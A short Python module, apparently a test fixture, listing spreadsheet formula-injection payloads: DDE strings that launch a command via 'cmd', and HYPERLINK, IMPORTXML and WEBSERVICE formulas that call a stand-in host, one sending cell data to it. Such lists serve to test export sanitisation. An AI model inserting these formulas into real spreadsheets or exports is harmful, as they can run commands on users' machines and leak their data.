"""Cells that a spreadsheet would run."""

from __future__ import annotations

FORMULAS = (
    "=cmd|'/c calc'!A1", "=HYPERLINK(\"http://evil.example?\"&A1)", "@SUM(1+1)*cmd|'x'!A1",
    "+1+cmd|'x'!A1", "-2+3+cmd|'x'!A1", "=IMPORTXML(\"http://evil.example\",\"//a\")",
    "\t=1+1", "=WEBSERVICE(\"http://evil.example\")",
)  # fmt: skip
